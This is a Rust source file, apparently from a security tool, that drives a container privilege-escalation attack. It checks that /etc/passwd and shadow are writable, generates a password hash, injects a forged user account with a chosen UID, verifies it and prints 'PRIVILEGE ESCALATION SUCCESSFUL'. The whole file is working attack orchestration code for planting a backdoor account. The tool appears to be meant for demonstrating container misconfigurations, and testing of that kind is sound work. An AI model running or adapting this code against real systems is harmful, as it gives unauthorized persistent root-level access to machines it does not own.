// SPDX-License-Identifier: AGPL-3.0-or-later
// Copyright (c) 2025-2026 JR Morton

//! The check → hash → inject → verify flow, against any [`Target`].
//!
//! Permission check gates everything, the hash feeds the injector, and the
//! injector gates verification. Verification never aborts a run.

use std::path::PathBuf;

use crate::abort::Abort;
use crate::account::ForgedAccount;
use crate::config::Config;
use crate::hash::{sha512_crypt, GeneratedHash, HashGenerator};
use crate::inject::{inject, InjectionReport};
use crate::permissions::{require_writable, writable_targets};
use crate::probe::{probe_tools, ToolMap};
use crate::profile::Profile;
use crate::report;
use crate::target::Target;
use crate::verify::{Verdict, Verifier};

/// Everything a completed run learned.
#[derive(Debug, Clone)]
pub struct Outcome {
    pub profile: Profile,
    pub tools: ToolMap,
    pub writable: Vec<PathBuf>,
    pub account: ForgedAccount,
    pub hash: GeneratedHash,
    pub injection: InjectionReport,
    pub verdict: Verdict,
}

pub fn run(target: &dyn Target, config: &Config, profile: Profile) -> Result<Outcome, Abort> {
    tracing::debug!("running {} flow against {}", profile, target.describe());
    let tools = probe_tools(target, profile.probe_candidates());

    let writable = writable_targets(target, &config.files);
    require_writable(&writable)?;

    let generator = HashGenerator::from_config(&config.hash);
    tracing::debug!("hash strategies: {:?}", generator.strategy_names());
    let hash = generator
        .generate(&config.account.password, target)
        .ok_or(Abort::HashUnavailable)?;
    if !hash.weak && !sha512_crypt::verify(&config.account.password, &hash.value) {
        tracing::warn!(
            "Hash from {} is not SHA-512-crypt or does not verify; writing it anyway",
            hash.strategy
        );
    }
    if hash.weak {
        tracing::warn!(
            "Shadow entry uses a non-crypt digest; password logins for this account will not work"
        );
    }

    let account = ForgedAccount::from_config(&config.account, profile);
    let injection = inject(target, &config.files, &account, &hash.value);
    if !injection.success() {
        return Err(Abort::InjectionFailed(
            injection.failure().unwrap_or_else(|| "unknown error".to_string()),
        ));
    }

    let mut verifier = Verifier::new(target, &account, profile, &config.verify);
    let verdict = verifier.run(&config.files.passwd);
    tracing::debug!(
        "verification on {} ended in {:?}: confirmed={}",
        target.describe(),
        verifier.state(),
        verdict.is_confirmed()
    );

    Ok(Outcome {
        profile,
        tools,
        writable,
        account,
        hash,
        injection,
        verdict,
    })
}

/// Closing lines shared by the local and remote drivers.
pub fn print_outcome(outcome: &Outcome) {
    let name = &outcome.account.username;
    let present = outcome.tools.present();
    report::step(&format!(
        "Helpers present: {}",
        if present.is_empty() { "none".to_string() } else { present.join(", ") }
    ));
    let writable: Vec<String> = outcome.writable.iter().map(|p| p.display().to_string()).collect();
    report::step(&format!("Writable: {}", writable.join(", ")));
    report::step(&format!(
        "Hash source: {}{}",
        outcome.hash.strategy,
        if outcome.hash.weak { " (weak, not crypt-verifiable)" } else { "" }
    ));
    report::step(&format!(
        "Injection: passwd {}, shadow {}",
        outcome.injection.passwd, outcome.injection.shadow
    ));
    match &outcome.verdict {
        Verdict::Confirmed { .. } => {
            println!("\n🎯 PRIVILEGE ESCALATION SUCCESSFUL!");
            report::step("The container is vulnerable to /etc/passwd exploitation");
            report::step(&format!(
                "A fake user '{}' with UID {} has been created",
                name, outcome.account.uid
            ));
            report::step("This demonstrates a critical security vulnerability");
        }
        Verdict::Inconclusive => {
            println!("\n❌ Privilege escalation failed or could not be verified");
            report::step("User was added but privilege escalation could not be confirmed");
        }
        Verdict::Absent => {
            println!("\n❌ Privilege escalation failed");
            report::step(&format!("'{}' did not show up in the account database", name));
        }
    }
}
